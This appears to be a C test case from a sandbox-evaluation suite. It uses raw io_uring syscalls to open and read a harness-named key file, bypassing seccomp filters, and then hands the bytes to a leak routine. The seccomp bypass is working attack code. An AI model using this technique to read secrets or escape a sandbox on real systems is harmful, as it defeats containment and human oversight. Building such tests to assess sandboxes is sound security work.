// Opens and reads the key by io_uring, whose calls no seccomp filter sees.
// class: OS sandboxes: io_uring
// plain: leak
// journal: system *io_uring*
#include "attack.h"
#include <linux/io_uring.h>
#include <stdatomic.h>

static struct io_uring_params parameters;
static char *sq, *cq;
static struct io_uring_sqe* entries;
static int ring;

static int perform(struct io_uring_sqe wanted) {
  unsigned* tail = (unsigned*)(void*)(sq + parameters.sq_off.tail);
  const unsigned mask = *(unsigned*)(void*)(sq + parameters.sq_off.ring_mask), index = *tail & mask;
  entries[index] = wanted;
  ((unsigned*)(void*)(sq + parameters.sq_off.array))[index] = index;
  atomic_store((_Atomic unsigned*)tail, *tail + 1);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
  unsigned* head = (unsigned*)(void*)(cq + parameters.cq_off.head);
  const unsigned at = *head & *(unsigned*)(void*)(cq + parameters.cq_off.ring_mask);
  const int result = ((struct io_uring_cqe*)(void*)(cq + parameters.cq_off.cqes))[at].res;
  atomic_store((_Atomic unsigned*)head, *head + 1);
  return result;
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  ring = (int)syscall(SYS_io_uring_setup, 4, &parameters);
  if (ring < 0) {
    refused("io_uring_setup");
    if (!inside()) needs("io-uring");
    return 0;
  }
  const size_t size = parameters.sq_off.array + parameters.sq_entries * sizeof(unsigned);
  const size_t cq_size = parameters.cq_off.cqes + parameters.cq_entries * sizeof(struct io_uring_cqe);
  sq = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
  cq = mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
  entries = mmap(NULL, parameters.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
  struct io_uring_sqe open_it = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD};
  open_it.addr = (uintptr_t)fact("KEY");
  const int fd = perform(open_it);
  char buffer[4096];
  struct io_uring_sqe read_it = {.opcode = IORING_OP_READ, .fd = fd, .len = sizeof buffer};
  read_it.addr = (uintptr_t)buffer;
  const int n = fd < 0 ? fd : perform(read_it);
  if (n > 0) leak(buffer, (size_t)n);
  return 0;
}
